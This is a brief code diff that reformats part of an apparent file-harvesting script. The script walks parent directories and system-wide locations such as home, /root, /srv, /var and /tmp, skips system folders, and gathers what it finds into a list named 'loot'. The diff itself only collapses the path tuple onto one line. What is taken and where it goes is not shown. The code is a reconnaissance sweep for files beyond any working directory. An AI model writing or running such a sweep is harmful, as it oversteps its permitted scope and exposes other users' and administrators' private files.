@@ -1,21 +1,7 @@
 import os
 
 loot = []
-for place in (
-    "..",
-    "../..",
-    "../../../..",
-    "~",
-    "/home",
-    "/root",
-    "/work",
-    "/srv",
-    "/mnt",
-    "/var",
-    "/tmp",
-    "/opt",
-    "/run",
-):
+for place in ("..", "../..", "../../../..", "~", "/home", "/root", "/work", "/srv", "/mnt", "/var", "/tmp", "/opt", "/run"):
     for folder, folders, files in os.walk(os.path.expanduser(place)):
         skipped = ("proc", "sys", "dev", "usr", "box", "lib", "lib64", "site-packages", "bin", "sbin")
         folders[:] = [name for name in folders if name not in skipped]
